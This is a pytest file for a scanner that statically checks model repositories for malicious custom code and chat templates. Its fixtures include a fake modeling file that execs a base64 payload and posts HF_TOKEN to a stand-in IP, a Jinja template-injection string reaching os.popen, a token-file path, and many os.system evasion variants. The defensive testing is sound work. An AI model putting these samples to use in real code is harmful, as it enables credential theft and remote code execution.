"""static.custom_code: model repositories with Python next to the weights, analysed and never run."""

from __future__ import annotations

import base64
import json
import textwrap
from pathlib import Path

import pytest

from hfguard import signatures
from hfguard.engine import scan
from hfguard.findings import Severity, Verdict
from hfguard.policy import Policy
from hfguard.static.code.custom_code import CustomCodeCheck, analyse_source
from hfguard.target import local_target


def _rules_of(source: str) -> dict[str, Severity]:
    out: dict[str, Severity] = {}
    for p in analyse_source(textwrap.dedent(source)).problems:
        out[p.rule] = max(out.get(p.rule, p.severity), p.severity)
    return out


def _scan(root: Path, policy: Policy | None = None):
    return scan(local_target([str(root)]), policy or Policy(), [CustomCodeCheck()])


def _examples() -> list[tuple[str, str]]:
    doc = signatures.load("custom_code")
    out = [(c["rule"], c["example"]) for c in doc["calls"]]
    out += [(r["rule"], r["example"]) for r in doc["rules"].values()]
    return out


@pytest.mark.parametrize("rule, example", _examples(), ids=[r for r, _ in _examples()])
def test_every_signature_rule_fires_on_its_example(rule, example):
    source = example.replace("{blob}", base64.b64encode(bytes(range(256)) * 5).decode())
    assert rule in _rules_of(source)


def _malicious(mark: Path) -> str:
    payload = f"open({str(mark)!r}, 'w').write('ran')"
    encoded = base64.b64encode(payload.encode()).decode()
    return textwrap.dedent(f'''\
        """Looks like a modeling file."""
        import base64
        import os
        import subprocess

        import torch.nn as nn

        subprocess.run(["touch", {str(mark)!r}])
        exec(base64.b64decode("{encoded}"))

        class EvilModel(nn.Module):
            def __init__(self, config):
                super().__init__()
                token = os.environ.get("HF_TOKEN")
                import urllib.request
                urllib.request.urlopen("http://203.0.113.9/c", data=str(token).encode())
    ''')


def test_malicious_module_blocks_and_never_runs(tmp_path):
    repo = tmp_path / "repo"
    repo.mkdir()
    mark = tmp_path / "mark"
    (repo / "modeling_evil.py").write_text(_malicious(mark))
    (repo / "config.json").write_text(json.dumps({"auto_map": {"AutoModel": "modeling_evil.EvilModel"}}))
    report = _scan(repo)
    by_rule = {(f.rule, f.severity) for f in report.all_findings()}
    assert ("custom-code/process", Severity.CRITICAL) in by_rule
    assert ("custom-code/obfuscated-exec", Severity.CRITICAL) in by_rule
    assert ("custom-code/exfiltration", Severity.HIGH) in by_rule
    assert ("custom-code/secret-access", Severity.MEDIUM) in by_rule
    assert ("custom-code/ip-literal", Severity.LOW) in by_rule
    # network inside __init__ (run by from_pretrained) is raised from low to medium
    assert ("custom-code/network", Severity.MEDIUM) in by_rule
    assert ("custom-code/requires-remote-code", Severity.MEDIUM) in by_rule
    assert report.verdict is Verdict.BLOCK
    assert not mark.exists()


BENIGN = '''\
"""PyTorch TinyBERT model, in the style of a transformers modeling file.

Paper: https://arxiv.org/abs/1909.10351
"""
import math
import os
from typing import Optional

import torch
from torch import nn
from transformers import PretrainedConfig, PreTrainedModel
from transformers.utils import logging

from .configuration_tiny import TinyConfig

logger = logging.get_logger(__name__)
_CHECKPOINT_FOR_DOC = "org/tiny-bert"


class TinySelfAttention(nn.Module):
    def __init__(self, config: TinyConfig):
        super().__init__()
        self.num_heads = config.num_attention_heads
        self.head_dim = config.hidden_size // self.num_heads
        self.qkv = nn.Linear(config.hidden_size, 3 * config.hidden_size)
        self.dropout = nn.Dropout(getattr(config, "attention_dropout", 0.0))

    def forward(self, hidden: torch.Tensor, mask: Optional[torch.Tensor] = None) -> torch.Tensor:
        b, t, _ = hidden.shape
        q, k, v = self.qkv(hidden).view(b, t, 3, self.num_heads, self.head_dim).unbind(2)
        scores = torch.einsum("bqhd,bkhd->bhqk", q, k) / math.sqrt(self.head_dim)
        if mask is not None:
            scores = scores.masked_fill(mask[:, None, None, :] == 0, float("-inf"))
        probs = self.dropout(scores.softmax(-1))
        return torch.einsum("bhqk,bkhd->bqhd", probs, v).reshape(b, t, -1)


class TinyPreTrainedModel(PreTrainedModel):
    config_class = TinyConfig
    base_model_prefix = "tiny"

    def _init_weights(self, module):
        if isinstance(module, nn.Linear):
            module.weight.data.normal_(mean=0.0, std=self.config.initializer_range)
            if module.bias is not None:
                module.bias.data.zero_()


class TinyModel(TinyPreTrainedModel):
    def __init__(self, config: TinyConfig):
        super().__init__(config)
        self.embeddings = nn.Embedding(config.vocab_size, config.hidden_size)
        self.layers = nn.ModuleList([TinySelfAttention(config) for _ in range(config.num_hidden_layers)])
        if os.environ.get("TINY_DEBUG"):
            logger.warning("debug mode")
        self.post_init()

    def forward(self, input_ids, attention_mask=None):
        hidden = self.embeddings(input_ids)
        for layer in self.layers:
            hidden = hidden + layer(hidden, attention_mask)
        return hidden

    def load_extra(self, path: str):
        return torch.load(os.path.join(path, "extra.bin"), map_location="cpu", weights_only=True)


if __name__ == "__main__":
    import subprocess
    subprocess.run(["nvidia-smi"])
'''

CONFIG_TINY = '''\
from transformers import PretrainedConfig


class TinyConfig(PretrainedConfig):
    model_type = "tiny"

    def __init__(self, vocab_size=1000, hidden_size=64, num_attention_heads=4, num_hidden_layers=2,
                 initializer_range=0.02, **kwargs):
        super().__init__(**kwargs)
        self.vocab_size = vocab_size
        self.hidden_size = hidden_size
        self.num_attention_heads = num_attention_heads
        self.num_hidden_layers = num_hidden_layers
        self.initializer_range = initializer_range
'''


def test_benign_modeling_file_passes_with_info_or_low_only(tmp_path):
    repo = tmp_path / "repo"
    repo.mkdir()
    (repo / "modeling_tiny.py").write_text(BENIGN)
    (repo / "configuration_tiny.py").write_text(CONFIG_TINY)
    report = _scan(repo)
    assert report.verdict is Verdict.PASS
    sevs = {(f.rule, f.severity) for f in report.all_findings()}
    assert all(s <= Severity.LOW for _, s in sevs), sevs
    assert ("custom-code/url", Severity.INFO) in sevs           # the paper link, reported as info
    # torch.load(..., weights_only=True) is the safe form
    assert "custom-code/unsafe-deserialization" not in {r for r, _ in sevs}
    assert ("custom-code/process", Severity.LOW) in sevs        # the __main__ block never runs on import


@pytest.mark.parametrize("source, rule, severity", [
    ("import os\nos.system('id')\n", "custom-code/process", Severity.CRITICAL),
    ("import os\ndef f():\n    os.system('id')\n", "custom-code/process", Severity.MEDIUM),
    ("import os\nclass M:\n    def __init__(self):\n        os.system('id')\n", "custom-code/process",
     Severity.HIGH),
    ("import os\nclass M:\n    x = os.popen('id')\n", "custom-code/process", Severity.CRITICAL),
    ("import os\ndef f(x=os.system('id')):\n    pass\n", "custom-code/process", Severity.CRITICAL),
    ("import os\n@os.system\ndef f():\n    pass\n", "custom-code/process", Severity.CRITICAL),
    ("from os import system as s\ns('id')\n", "custom-code/process", Severity.CRITICAL),
    ("import os\ngetattr(os, 'system')('id')\n", "custom-code/process", Severity.CRITICAL),
    ("__import__('os').system('id')\n", "custom-code/process", Severity.CRITICAL),
    ("import importlib\nimportlib.import_module('subprocess').run(['id'])\n", "custom-code/process",
     Severity.CRITICAL),
    ("import sys\nsys.modules['os'].system('id')\n", "custom-code/process", Severity.CRITICAL),
    ("f = lambda: eval('1')\n", "custom-code/dynamic-code", Severity.MEDIUM),
    ("import os, torch\nclass M:\n    @torch.no_grad()\n    @staticmethod\n    def forward(x):\n"
     "        os.system('id')\n", "custom-code/process", Severity.HIGH),   # decorated load hook
    ("x = chr(111) + chr(115) + chr(46) + chr(115)\n", "custom-code/char-obfuscation", Severity.MEDIUM),
    ("g = globals()['__builtins__']\n", "custom-code/builtins-access", Severity.HIGH),
    ("import os\nfor k in os.environ:\n    pass\n", "custom-code/environ-dump", Severity.MEDIUM),
    ("home = '~'\np = f'{home}/.bashrc'\n", "custom-code/sensitive-path", Severity.HIGH),
    ("import marshal\ncode = marshal.loads(bytes.fromhex('e3'))\n", "custom-code/obfuscated-exec",
     Severity.CRITICAL),
    ("from subprocess import *\nPopen(['id'])\n", "custom-code/process", Severity.CRITICAL),
    ("import torch\nsd = torch.load('x.bin')\n", "custom-code/unsafe-deserialization", Severity.HIGH),
    ("import torch\nsd = torch.load('x.bin', weights_only=True)\n", "custom-code/unsafe-deserialization",
     None),
    ("import numpy as np\na = np.load('x.npy')\n", "custom-code/unsafe-deserialization", None),
    ("import numpy as np\na = np.load('x.npy', allow_pickle=True)\n", "custom-code/unsafe-deserialization",
     Severity.HIGH),
])
def test_where_a_call_sits_sets_its_severity(source, rule, severity):
    assert _rules_of(source).get(rule) == severity


def test_chr_join_is_decoded():
    [p] = [p for p in analyse_source("c = ''.join([chr(111), chr(115)])\n").problems
           if p.rule == "custom-code/char-obfuscation"]
    assert p.evidence["decoded"] == "os"


def test_unparsable_large_and_complex_files_are_findings(tmp_path):
    repo = tmp_path / "repo"
    repo.mkdir()
    (repo / "broken.py").write_text("def f(:\n    pass\n")
    (repo / "big.py").write_text("x = 1\n" * 2000)
    (repo / "deep.py").write_text("y = " + " + ".join(["1"] * 500) + "\n")
    (repo / "cached.pyc").write_bytes(b"\xa7\r\r\n" + b"\x00" * 12 + b"\xe3")
    policy = Policy(thresholds={"static.custom_code": {"max-source-bytes": 8000, "max-ast-nodes": 600}})
    report = _scan(repo, policy)
    rules = {(f.file.rsplit("/", 1)[-1], f.rule) for f in report.all_findings()}
    assert ("broken.py", "custom-code/unparsable") in rules
    assert ("big.py", "custom-code/too-large") in rules
    assert ("deep.py", "custom-code/too-complex") in rules
    assert ("cached.pyc", "custom-code/compiled-python") in rules
    assert report.verdict is Verdict.BLOCK


def _repo_with_config(tmp_path: Path, config: dict, files: dict[str, str], name: str = "config.json"):
    repo = tmp_path / "repo"
    repo.mkdir(exist_ok=True)
    (repo / name).write_text(json.dumps(config))
    for rel, text in files.items():
        (repo / rel).write_text(text)
    return repo


def test_auto_map_requires_custom_code(tmp_path):
    config = {"model_type": "tiny",
              "auto_map": {"AutoConfig": "configuration_tiny.TinyConfig",
                           "AutoModel": "modeling_tiny.TinyModel",
                           "AutoTokenizer": ["tokenization_tiny.TinyTokenizer", None]}}
    repo = _repo_with_config(tmp_path, config, {"modeling_tiny.py": BENIGN,
                                                "configuration_tiny.py": CONFIG_TINY})
    report = _scan(repo)
    cfg = [f for f in report.all_findings() if f.file.endswith("config.json")]
    req = [f for f in cfg if f.rule == "custom-code/requires-remote-code"]
    assert len(req) == 1 and req[0].severity is Severity.MEDIUM
    assert req[0].evidence["files"] == ["configuration_tiny.py", "modeling_tiny.py", "tokenization_tiny.py"]
    assert {(f.rule, f.location) for f in cfg if f.rule == "custom-code/missing-module"} == {
        ("custom-code/missing-module", "tokenization_tiny.py")}
    assert report.verdict is Verdict.FLAG


def test_auto_map_into_another_repo_and_out_of_the_repo(tmp_path):
    config = {"auto_map": {"AutoModel": "other-org/other-repo--modeling_x.XModel",
                           "AutoConfig": "../../outside.Config"}}
    report = _scan(_repo_with_config(tmp_path, config, {}))
    found = {(f.rule, f.location) for f in report.all_findings()}
    assert ("custom-code/cross-repo-code", "auto_map.AutoModel") in found
    assert ("custom-code/auto-map-path", "auto_map.AutoConfig") in found
    assert report.verdict is Verdict.BLOCK


def test_sentence_transformers_custom_module(tmp_path):
    modules = [{"idx": 0, "name": "0", "path": "", "type": "sentence_transformers.models.Transformer"},
               {"idx": 1, "name": "1", "path": "1_Custom", "type": "custom_pooling.Pool"}]
    repo = _repo_with_config(tmp_path, modules, {"custom_pooling.py": "class Pool:\n    pass\n"},
                             name="modules.json")
    report = _scan(repo)
    [f] = report.all_findings()
    assert f.rule == "custom-code/requires-remote-code" and f.evidence["files"] == ["custom_pooling.py"]


def test_json_without_custom_code_is_quiet(tmp_path):
    repo = _repo_with_config(tmp_path, {"model_type": "bert", "architectures": ["BertModel"]}, {})
    (repo / "tokenizer_config.json").write_text(json.dumps({"tokenizer_class": "BertTokenizer"}))
    assert _scan(repo).all_findings() == []


def test_main_guard_is_not_import_time_unless_name_is_reassigned():
    guarded = "import os\nif __name__ == '__main__':\n    os.system('id')\n"
    assert _rules_of(guarded)["custom-code/process"] == Severity.LOW
    assert _rules_of("__name__ = '__main__'\n" + guarded)["custom-code/process"] == Severity.CRITICAL


def test_chat_templates_in_tokenizer_config_and_jinja_files(tmp_path):
    evil = "{{ self.__init__.__globals__.__builtins__.__import__('os').popen('id').read() }}"
    safe = "{% for m in messages %}{{ m['role'] }}: {{ m['content'] }}\n{% endfor %}"
    repo = _repo_with_config(tmp_path, {"tokenizer_class": "X", "chat_template": [
        {"name": "default", "template": safe}, {"name": "tool_use", "template": evil}]}, {},
        name="tokenizer_config.json")
    (repo / "chat_template.jinja").write_text(evil)
    (repo / "safe.jinja").write_text(safe)
    report = _scan(repo)
    found = {(f.file.rsplit("/", 1)[-1], f.rule, f.location) for f in report.all_findings()}
    assert found == {("tokenizer_config.json", "chat-template/injection", "chat_template.tool_use"),
                     ("chat_template.jinja", "chat-template/injection", "template")}


def test_token_path_pattern_does_not_match_tokenizers_links():
    doc = '"""Backed by [tokenizers](https://github.com/huggingface/tokenizers)."""\n'
    assert "custom-code/sensitive-path" not in _rules_of(doc)
    assert "custom-code/sensitive-path" not in _rules_of("CA = '/etc/ssl/certs/ca-certificates.crt'\n")
    assert "custom-code/sensitive-path" in _rules_of("P = '/etc/cron.d/x'\n")
    steal = "import os\np = os.path.expanduser('~/.cache/huggingface/token')\n"
    assert _rules_of(steal)["custom-code/sensitive-path"] == Severity.HIGH
